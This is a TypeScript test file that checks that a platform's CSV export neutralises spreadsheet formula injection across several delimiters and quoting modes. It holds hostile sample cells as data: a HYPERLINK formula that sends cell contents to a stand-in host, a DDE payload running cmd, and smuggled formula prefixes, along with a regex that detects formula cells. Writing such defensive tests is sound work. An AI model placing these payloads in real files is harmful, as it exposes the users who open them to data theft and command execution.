import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toSpreadsheetCsv } from '../../src/platform/spreadsheet-csv';

/** Text people may type or send that a spreadsheet would run, alone or after a separator. */
const HOSTILE_CELLS = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  'Mozilla/5.0,=HYPERLINK("http://x.example/")',
  'Mozilla/5.0 (X11; Linux x86_64);=1+1',
  'Pop,=1+1',
  'Pop, +1',
  'Pop\t@SUM(1)',
  'Pop;-2+3',
  'Pop,"=1+1"',
  'Pop\r\n=1+1',
  '"=1+1"',
  '\t=1+1',
  'Pop,＝1',
  '=1,=2;=3\t=4',
  "+cmd|' /C calc'!A0",
];

const FORMULA = /^[\s\p{Cc}"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

describe('a CSV the platform writes', () => {
  const csv = toSpreadsheetCsv([['Nume', 'Browser'], ...HOSTILE_CELLS.map((cell) => ['Ion', cell])]);

  it.each([
    [';', 'the separator it is written with'],
    [',', 'Excel with English settings, LibreOffice by default'],
    ['\t', 'a tab-separated reading'],
  ])('holds no formula cell when split on %j (%s), with or without honouring quotes', (delimiter) => {
    for (const quote of ['"', false] as const) {
      const rows: string[][] = parse(csv, {
        bom: true,
        delimiter,
        quote,
        relax_quotes: true,
        relax_column_count: true,
      });
      const cells = rows.flat();
      expect(cells.length).toBeGreaterThan(HOSTILE_CELLS.length);
      expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
    }
  });

  it('reads back every cell as written, after its apostrophes, when split on its own separator', () => {
    const rows: string[][] = parse(csv, { bom: true, delimiter: ';' });
    expect(rows.slice(1).map((row) => row[1]?.replaceAll("'", ''))).toEqual(
      HOSTILE_CELLS.map((cell) => cell.replaceAll("'", '')),
    );
  });
});
